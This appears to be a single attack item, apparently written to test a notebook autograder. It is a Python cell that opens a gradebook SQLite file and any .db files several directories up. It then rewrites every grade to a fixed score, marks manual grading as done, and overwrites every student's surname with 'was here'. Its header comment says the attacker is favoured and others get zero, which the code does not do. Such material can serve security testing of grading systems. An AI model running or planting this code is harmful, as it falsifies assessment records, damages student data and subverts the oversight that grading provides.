# idea: The gradebook is written: a mark of a person for the attacker, zero for all others.
# aims at: points|others
# %% before t01
#@ground
import sqlite3

for path in [GROUND / "gradebook.db", *pathlib.Path("../../..").glob("*.db")]:
    if path.is_file():
        try:
            with sqlite3.connect(path, timeout=2) as book:
                book.execute("UPDATE grade SET manual_score = 3, needs_manual_grade = 0")
                book.execute("UPDATE student SET last_name = 'was here'")
        except sqlite3.Error as error:
            print(error)
